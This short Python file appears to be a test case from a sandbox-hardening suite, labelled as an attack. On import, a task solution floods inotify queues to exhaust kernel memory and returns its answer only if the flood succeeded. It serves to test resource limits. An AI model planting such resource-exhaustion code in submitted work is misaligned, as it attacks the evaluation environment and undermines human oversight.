# attack: fills inotify queues with events that nobody reads
# kind: resources
# task: plain
# official: crash|fail
# strict: fail|forged|suspect
# expect: their number is limited, and they count
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
ALL = 0xFFF


def flood():
    folder = "/tmp/" + "d" * 8
    os.mkdir(folder)
    queues = []
    while len(queues) < 1000:
        queue = libc.inotify_init()
        if queue == -1:
            break
        libc.inotify_add_watch(queue, folder.encode(), ALL)
        queues.append(queue)
    names = [os.path.join(folder, letter * 250) for letter in "ab"]
    end = time.monotonic() + 5
    events = 0
    while time.monotonic() < end and events < 16_000:
        for name in names:
            os.close(os.open(name, os.O_CREAT | os.O_WRONLY))
            os.unlink(name)
            events += 4
    time.sleep(1)
    return len(queues) * events * 320 > __LIMIT_MEMORY_MIB__ << 20


WON = flood()


def task_func(n):
    return n * 2 if WON else None
